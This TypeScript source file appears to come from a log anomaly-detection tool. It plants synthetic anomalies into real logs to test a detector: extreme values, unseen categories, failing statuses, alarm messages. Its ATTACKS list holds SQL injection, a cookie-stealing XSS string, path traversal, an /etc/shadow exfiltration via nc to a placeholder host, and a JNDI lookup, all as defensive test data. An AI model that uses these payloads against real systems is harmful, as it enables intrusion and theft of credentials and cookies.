import { unsafeUniformIntDistribution, xoroshiro128plus, type RandomGenerator } from 'pure-rand';
import type { Detector, FeatureDefinition } from '../../../common/detector';
import type { LogDocument } from '../../../common/log_document';
import { getField } from '../../../common/log_features';
import { numbersIn } from '../../../common/log_features/number/numbers_in_text';

/** A log that is anomalous by construction: a real one, changed in what one feature looks at. */
export interface PlantedAnomaly {
  /** Kind of the change and its feature, such as `attack in url.original`: they are counted by it. */
  readonly kind: string;
  readonly document: LogDocument;
}

export interface PlantingOptions {
  /** Anomalies of each kind. */
  readonly each?: number;
  readonly seed: number;
}

const DEFAULT_EACH = 40;
/** Real logs that are looked at for what is usual. */
const MOST_LOOKED_AT = 2_000;
/** Beyond the largest usual value by so many times the spread between the median and it. */
const FAR_SPREADS = 20;
const USUAL_QUANTILE = 0.99;
/** Shares of logs from which a failure is too common to be an anomaly. */
const COMMON_SHARE = 0.02;
const ERROR_STATUSES = [500, 502, 503] as const;

/** Queries and paths of well-known attacks, each with something random in it. */
const ATTACKS: readonly ((word: string) => string)[] = [
  (word) => `?id=1' union select ${word},password from users--`,
  (word) => `?q=<script>document.location='http://${word}.example/'+document.cookie</script>`,
  (word) => `/../../../../etc/passwd?${word}`,
  (word) => `?cmd=;cat /etc/shadow|nc ${word}.example 4444`,
  (word) => '${jndi:ldap://' + `${word}.example/a}`,
];
const ALARMS: readonly ((word: string) => string)[] = [
  (word) => `kernel panic - not syncing: fatal exception in interrupt ${word}`,
  (word) => `segfault at 0 ip ${word} sp error 14 in libcrypto.so killed by signal 11`,
  (word) => `unhandled exception ${word}: out of memory while expanding the heap`,
];

/**
 * Makes anomalies out of recent logs, for asking of a model whether it would find them: numbers far out, categories that
 * were never seen, attack strings in texts, messages of no known template, failing statuses. As many kinds as the
 * features of the detector can see; times of the day are left alone, since an unusual one cannot be told from outside.
 * Each is odd in the feature that it is counted by and, where there is another one, in that as well: a log that is odd
 * in a single feature lies where each of two equal models draws its line by chance.
 *
 * The same detector, logs and seed give the same anomalies.
 *
 * @param documents recent logs, in any order
 * @returns nothing without logs
 */
export function plantAnomalies(
  detector: Pick<Detector, 'features'>,
  documents: readonly LogDocument[],
  { each = DEFAULT_EACH, seed }: PlantingOptions,
): PlantedAnomaly[] {
  if (documents.length === 0) return [];
  const random = xoroshiro128plus(seed);
  const looked = documents.slice(0, MOST_LOOKED_AT);
  const changes = detector.features.flatMap((feature) => changeOf(feature, looked) ?? []);
  return changes.flatMap((change) => {
    const others = changes.filter(({ field }) => field !== change.field);
    return Array.from({ length: each }, (): PlantedAnomaly => {
      const base = documents[below(random, documents.length)];
      const made = [change, ...(others.length === 0 ? [] : [pick(others, random)])];
      const values = made.map(({ field, value }) => [field, value(getField(base, field), random)] as const);
      return {
        kind: `${change.what} in ${change.name}`,
        document: { ...base, ...Object.fromEntries(values) },
      };
    });
  });
}

const below = (random: RandomGenerator, size: number): number =>
  unsafeUniformIntDistribution(0, size - 1, random);
const pick = <Item>(items: readonly Item[], random: RandomGenerator): Item =>
  items[below(random, items.length)];
const wordOf = (random: RandomGenerator): string =>
  (below(random, 0x40000000) + 0x40000000).toString(36).slice(0, 6);

type OddValue = Pick<Change, 'what' | 'value'>;

interface Change {
  readonly what: string;
  readonly field: string;
  /** Of the feature, for people. */
  readonly name: string;
  value(before: unknown, random: RandomGenerator): unknown;
}

function changeOf(feature: FeatureDefinition, documents: readonly LogDocument[]): Change | undefined {
  const found = oddValue(feature, documents);
  return found && { ...found, field: feature.field, name: feature.name ?? feature.field };
}

function oddValue(feature: FeatureDefinition, documents: readonly LogDocument[]): OddValue | undefined {
  switch (feature.type) {
    case 'number':
    case 'deviation':
      return farValue(feature, documents);
    case 'category':
    case 'severity':
      return failingStatus(feature, documents) ?? unseenCategory(feature, documents);
    case 'message_numbers':
      return farNumber(feature, documents);
    case 'combination':
      return undefined;
    case 'text':
    case 'route':
    case 'attack_signs':
      return {
        what: 'attack',
        value: (before, random) =>
          `${typeof before === 'string' ? before : '/'}${pick(ATTACKS, random)(wordOf(random))}`,
      };
    case 'template':
      return { what: 'unknown message', value: (_before, random) => pick(ALARMS, random)(wordOf(random)) };
    case 'hour_of_day':
    case 'day_of_week':
      return undefined;
  }
}

function farValue({ field }: FeatureDefinition, documents: readonly LogDocument[]): OddValue | undefined {
  const values = documents
    .map((document) => Number(getField(document, field) ?? NaN))
    .filter(Number.isFinite)
    .sort((left, right) => left - right);
  if (values.length === 0) return undefined;
  const high = values[Math.floor((values.length - 1) * USUAL_QUANTILE)];
  const median = values[Math.floor((values.length - 1) / 2)];
  const spread = Math.max(high - median, Math.abs(high), 1);
  return {
    what: 'far value',
    value: (_before, random) => Math.round(high + spread * (FAR_SPREADS + below(random, FAR_SPREADS))),
  };
}

/** Messages with a number of ms, bytes or percent: others may be ids, of which none is far from another. */
function farNumber({ field }: FeatureDefinition, documents: readonly LogDocument[]): OddValue | undefined {
  const messages = documents.flatMap((document) => {
    const text = getField(document, field);
    if (typeof text !== 'string') return [];
    const start = numbersIn(text).find(({ unit }) => unit !== 'none')?.start;
    return start === undefined ? [] : [{ text, start }];
  });
  if (messages.length === 0) return undefined;
  return {
    what: 'far number',
    value: (_before, random) => {
      const { text, start } = pick(messages, random);
      return text.slice(0, start) + text.slice(start).replace(/\d/, `${below(random, 9_000) + 1_000}$&`);
    },
  };
}

const statusOf = (value: unknown): number | undefined => {
  const status = typeof value === 'number' || typeof value === 'string' ? Number(value) : NaN;
  return Number.isInteger(status) && status >= 100 && status <= 599 ? status : undefined;
};

/** Only where the field holds HTTP statuses and failures are rare. */
function failingStatus(
  { field }: FeatureDefinition,
  documents: readonly LogDocument[],
): OddValue | undefined {
  const values = documents
    .map((document) => getField(document, field))
    .filter((value) => value !== undefined);
  const statuses = values.map(statusOf);
  if (values.length === 0 || statuses.filter((status) => status !== undefined).length < values.length / 2) {
    return undefined;
  }
  const failing = statuses.filter((status) => status !== undefined && status >= 500).length;
  if (failing > values.length * COMMON_SHARE) return undefined;
  return {
    what: 'failing status',
    value: (before, random) => {
      const status = pick(ERROR_STATUSES, random);
      return typeof before === 'string' ? String(status) : status;
    },
  };
}

function unseenCategory(
  { field }: FeatureDefinition,
  documents: readonly LogDocument[],
): OddValue | undefined {
  const values = documents
    .map((document) => getField(document, field))
    .filter((value) => value !== undefined);
  // In a field with a new value in nearly every log, one more new value is no anomaly.
  if (new Set(values.map(String)).size > values.length / 2) return undefined;
  return { what: 'unseen value', value: (_before, random) => `unseen-${wordOf(random)}` };
}
